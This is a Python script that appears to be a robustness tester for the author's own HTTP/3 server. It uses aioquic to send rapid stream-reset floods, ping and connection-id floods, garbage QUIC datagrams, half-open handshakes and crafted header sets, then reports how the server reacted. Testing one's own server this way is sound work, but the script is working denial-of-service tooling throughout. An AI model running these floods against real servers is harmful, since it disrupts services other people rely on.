"""A viewer over HTTP/3 that keeps to no rule: aioquic, told what to do frame by frame.

    forge_h3.py --connect ADDRESS:PORT --host NAME --ca FILE [--ticket T] [--seconds S] ATTACK

    reset     requests that are reset at once, both ways
    ping      a datagram with nothing but a PING, again and again
    path      new connection ids, again and again
    heads FILE   one connection per line of a JSON list of header lists; what became of each request
    alpn      a protocol that nobody speaks
    garbage   datagrams that are no QUIC, and Initials that nobody can read
    half-open N  N handshakes that are begun and left

Prints one line of JSON: {"count": what was sent, "closed": whether the other side closed it, "code": its code}.
"""

import argparse
import asyncio
import json
import os
import socket
import ssl
import time
from ipaddress import ip_address

from aioquic.asyncio import QuicConnectionProtocol, connect
from aioquic.h3.connection import H3_ALPN, FrameType, H3Connection, encode_frame
from aioquic.h3.events import HeadersReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, StreamReset


class Forger(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.http = None
        self.ended = None
        self.outcome = asyncio.get_running_loop().create_future()

    def settle(self, what):
        if not self.outcome.done():
            self.outcome.set_result(what)

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated):
            self.ended = event.error_code
            self.settle(f"closed {event.error_code:#x}")
        elif isinstance(event, StreamReset):
            self.settle(f"reset {event.error_code:#x}")
        if self.http:
            for said in self.http.handle_event(event):
                if isinstance(said, HeadersReceived):
                    self.settle(int(dict(said.headers)[b":status"]))

    def begin(self):
        self.http = H3Connection(self._quic)

    def raw(self, fields, end):
        """A request whose fields nobody looks at before they are sent."""
        stream = self._quic.get_next_available_stream_id()
        encoder, block = self.http._encoder.encode(stream, fields)
        self._quic.send_stream_data(self.http._local_encoder_stream_id, encoder)
        self._quic.send_stream_data(stream, encode_frame(FrameType.HEADERS, block), end_stream=end)
        return stream


def fields_of(args):
    port = args.connect.rsplit(":", 1)[1]
    fields = [(":method", "GET"), (":scheme", "https"), (":authority", f"{args.host}:{port}"), (":path", "/echo")]
    if args.ticket:
        fields.append(("x-phlix-ticket", args.ticket))
    return [(name.encode(), value.encode()) for name, value in fields]


async def flood(args, session):
    count, until = 0, time.monotonic() + args.seconds
    while session.ended is None and time.monotonic() < until:
        for _ in range(32):
            if args.attack[0] == "reset":
                # As many streams as the other side lets us open.
                stream = session._quic.get_next_available_stream_id()
                if stream // 4 >= session._quic._remote_max_streams_bidi:
                    break
                session.raw(fields_of(args), end=False)
                session.transmit()
                session._quic.reset_stream(stream, 0x10C)
                session._quic.stop_stream(stream, 0x10C)
                # Both sides of it are over for us: aioquic would keep it for an answer that never comes.
            elif args.attack[0] == "ping":
                session._quic.send_ping(count)
            elif args.attack[0] == "path":
                session._quic.change_connection_id()
            session.transmit()
            count += 1
        await asyncio.sleep(0.001)
    return {"count": count, "closed": session.ended is not None, "code": session.ended}


async def heads(args, configuration, address, port):
    with open(args.attack[1], encoding="utf-8") as file:
        cases = json.load(file)
    outcomes = []
    for case in cases:
        async with connect(address, port, configuration=configuration, create_protocol=Forger) as session:
            session.begin()
            body = bytes(case.get("body", ""), "latin-1")
            fields = [(bytes(name, "latin-1"), bytes(value, "latin-1")) for name, value in case["fields"]]
            stream = session.raw(fields, end=not body)
            if body:
                session._quic.send_stream_data(stream, encode_frame(FrameType.DATA, body), end_stream=True)
            session.transmit()
            try:
                outcomes.append(await asyncio.wait_for(session.outcome, 10))
            except asyncio.TimeoutError:
                outcomes.append("nothing")
    return outcomes


def datagrams(args, address, port):
    """Datagrams that nobody made with care, and handshakes that nobody means to end."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    count = 0
    if args.attack[0] == "garbage":
        peer = socket.socket(family, socket.SOCK_DGRAM)
        until = time.monotonic() + args.seconds
        while time.monotonic() < until:
            for _ in range(50):
                kind = count % 4
                noise = os.urandom(1200)
                if kind == 0:
                    sent = noise
                elif kind == 1:
                    # An Initial of version 1 whose keys fit nothing.
                    sent = b"\xc3\x00\x00\x00\x01\x08" + noise[:8] + b"\x08" + noise[8:16] + b"\x00\x44\x9e" + noise[: 1200 - 25]
                elif kind == 2:
                    # A version that nobody speaks.
                    sent = b"\xc0\xfa\xce\xb0\x0c\x08" + noise[:8] + b"\x08" + noise[8:1186]
                else:
                    # An Initial that is too short to be answered.
                    sent = b"\xc3\x00\x00\x00\x01\x08" + noise[:8] + b"\x00\x00" + noise[:60]
                peer.sendto(sent, (address, port))
                count += 1
            time.sleep(0.005)
    else:
        # Each from an address of its own: all of 127.0.0.0/8 is this machine.
        for number in range(int(args.attack[1])):
            configuration = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN, server_name=args.host)
            connection = QuicConnection(configuration=configuration)
            connection.connect((address, port), now=time.monotonic())
            peer = socket.socket(family, socket.SOCK_DGRAM)
            peer.bind((f"127.1.{number // 250}.{number % 250 + 1}", 0))
            for data, _ in connection.datagrams_to_send(now=time.monotonic()):
                peer.sendto(data, (address, port))
            peer.close()
            count += 1
    return {"count": count, "closed": False, "code": None}


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--connect", required=True)
    parser.add_argument("--host", required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--ticket", default="")
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("attack", nargs="+")
    args = parser.parse_args()
    address, port = args.connect.rsplit(":", 1)
    address, port = str(ip_address(address.strip("[]"))), int(port)
    alpn = ["nobody/1"] if args.attack[0] == "alpn" else H3_ALPN
    configuration = QuicConfiguration(
        is_client=True, alpn_protocols=alpn, server_name=args.host, cafile=args.ca, verify_mode=ssl.CERT_REQUIRED
    )
    if args.attack[0] in ("garbage", "half-open"):
        told = datagrams(args, address, port)
    elif args.attack[0] == "heads":
        told = await heads(args, configuration, address, port)
    else:
        told = {"count": 0, "closed": True, "code": None}
        try:
            async with connect(address, port, configuration=configuration, create_protocol=Forger) as session:
                session.begin()
                told = await flood(args, session)
        except ConnectionError:
            pass
    print(json.dumps(told), flush=True)


asyncio.run(main())
